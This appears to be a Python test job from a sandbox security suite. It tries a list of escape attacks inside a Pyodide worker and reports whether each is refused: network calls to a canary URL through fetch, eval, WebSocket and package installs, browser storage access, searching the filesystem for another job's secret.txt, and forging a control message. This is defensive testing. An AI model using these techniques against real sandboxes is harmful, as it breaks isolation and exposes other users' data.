# The attack suite's Python job: each slice is one attack on the sandbox, named by the slice's
# datum. It reports what it observed; the test's ground truth is the canary server's request log
# and the scheduler's own, not this report. sys.argv: the canary's URL and the scheduler's URL.
# Every URL carries the attack's name, so a request that got through names it.
import asyncio
import os
import sys

import dcp
import js

CANARY, SCHEDULER = sys.argv[1], sys.argv[2]
FORGED = '{"type": "result", "id": 1, "json": "\\"forged\\""}'


def attempt(attack):
    url = f"{CANARY}/py-{attack}"
    if attack == "fetch-canary":
        return js.fetch(url)
    if attack == "fetch-scheduler":
        return js.fetch(f"{SCHEDULER}/py-{attack}")
    if attack == "fetch-relative":
        return js.fetch(f"/v1/health?attack=py-{attack}")
    if attack == "xhr":
        request = js.XMLHttpRequest.new()
        request.open("GET", url)
        return request.send()
    if attack == "websocket":
        return js.WebSocket.new(url.replace("http", "ws"))
    if attack == "eventsource":
        return js.EventSource.new(url)
    if attack == "import-scripts":
        return js.importScripts(url)
    if attack == "indexeddb":
        return js.indexedDB.open("tessera-attack")
    if attack == "caches":
        return js.caches.open("tessera-attack")
    if attack == "local-storage":
        return js.localStorage.setItem("tessera-attack", "1")
    if attack == "broadcast-channel":
        return js.BroadcastChannel.new("tessera").postMessage("hello")
    if attack == "post-message-parent":
        return js.parent.postMessage("hello", "*")
    if attack == "cookie":
        return js.document.cookie
    if attack == "nested-worker":
        return js.Worker.new(url)
    if attack == "prototype-fetch":
        return js.WorkerGlobalScope.prototype.fetch.call(js.self, url)
    if attack == "js-eval-fetch":
        return js.eval(f"fetch('{url}')")
    if attack == "js-eval-import":
        return js.eval(f"import('{url}')")
    if attack == "js-function-fetch":
        return js.Function.new(f"return fetch('{url}')")()
    if attack == "run-js":
        from pyodide.code import run_js
        return run_js(f"fetch('{url}')")
    if attack == "pyfetch":
        from pyodide.http import pyfetch
        return asyncio.ensure_future(pyfetch(url))
    if attack == "open-url":
        from pyodide.http import open_url
        return open_url(url)
    if attack == "micropip-install":
        import micropip
        return asyncio.ensure_future(micropip.install(f"{url}/attack-0.1-py3-none-any.whl"))
    if attack == "load-package-url":
        import pyodide_js
        return pyodide_js.loadPackage(f"{url}/attack-0.1-py3-none-any.whl")
    if attack == "urllib":
        import urllib.request
        return urllib.request.urlopen(url, timeout=2).read()
    if attack == "other-job-files":
        # Another job's bundle (tests/tests/attacks.rs deploys one with secret.txt first).
        found = []
        for folder, _dirs, files in os.walk("/"):
            if not folder.startswith(("/proc", "/dev", "/sys", "/lib")):
                found += [os.path.join(folder, name) for name in files if name == "secret.txt"]
        if found:
            return "found " + ", ".join(found) + ": " + open(found[0]).read()
        raise FileNotFoundError("no other job's files here")
    if attack == "forge-control-message":
        return js.postMessage(js.JSON.parse(FORGED))
    raise ValueError(f"unknown attack {attack}")


def handler(attack):
    try:
        value = attempt(attack)
        return {"attack": attack, "outcome": "no error", "detail": str(value)[:200]}
    except BaseException as error:  # noqa: BLE001 - every refusal is an observation
        return {"attack": attack, "outcome": "refused", "detail": f"{type(error).__name__}: {error}"[:300]}


dcp.set_slice_handler(handler)
